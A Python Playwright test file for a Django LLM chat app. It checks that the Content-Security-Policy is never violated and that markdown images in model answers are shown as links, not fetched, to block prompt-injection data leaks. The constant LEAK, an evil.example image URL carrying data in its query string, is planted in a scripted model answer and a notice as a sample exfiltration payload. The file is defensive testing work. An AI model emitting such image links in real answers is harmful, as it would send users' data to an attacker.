"""The Content-Security-Policy holds on every page in real Chromium (no violation reported), and an image in a model
answer is never fetched: a prompt injection cannot leak data through it."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from chat.models import Notice
from chat.services import notice_save
from llm.models import Deployment, ModelVersion
from tenants.models import User
from tests.browser.conftest import sign_in
from tests.browser.test_chat import SLOW, answers
from tests.live import DaphneServer
from tests.upstream import server as up

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# Installed before any page script: every violation the browser reports is kept for the test to read.
WATCH = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__csp.push(e.violatedDirective + " " + e.blockedURI);
});
"""
LEAK = "https://evil.example/p.png?leak=quarterly-numbers"


def violations(page: Page) -> list[str]:
    return list(page.evaluate("window.__csp || []"))


def watched(page: Page) -> Page:
    page.context.add_init_script(WATCH)
    return page


def test_no_page_violates_the_policy(
    page: Page, server: DaphneServer, user_a: User, operator: User, gpt4o: ModelVersion, upstream: up.UpstreamServer
) -> None:
    page = watched(page)
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    notice_save(notice=Notice(web_text_en=f"Read this ![logo]({LEAK}) first.", web_text_ja="注意"))
    upstream.script("gpt-4o", up.normal(f"Here is the chart: ![chart]({LEAK}) and **bold** text.", rate=200))
    page.goto(server.url + "/accounts/login/")
    assert violations(page) == []
    sign_in(page, server, user_a)
    page.get_by_test_id("composer").fill("Show me the chart")
    page.keyboard.press("Enter")
    answer = answers(page).last
    expect(answer).to_have_attribute("data-status", "ok", timeout=SLOW)
    link = answer.get_by_role("link", name="🖼 chart")
    expect(link).to_have_attribute("href", LEAK)  # offered as a link, not loaded
    assert answer.locator("img").count() == 0
    page.select_option("#lang-select", "ja")  # the language menu works without an inline handler
    expect(page.locator("html")).to_have_attribute("lang", "ja")
    assert violations(page) == []
    page.goto(server.url + "/accounts/logout/")
    assert violations(page) == []
    # The admin console and the audit pages, as the operator.
    sign_in(page, server, operator)
    deployment = Deployment.objects.first()
    assert deployment is not None
    for path in (
        "/admin/",
        f"/admin/llm/deployment/{deployment.pk}/change/",
        "/admin/llm/deployment/health/",
        "/audit/",
    ):
        page.goto(server.url + path)
        assert page.locator("body").count() == 1
        assert violations(page) == [], path
    assert not [url for url in requests if "evil.example" in url]
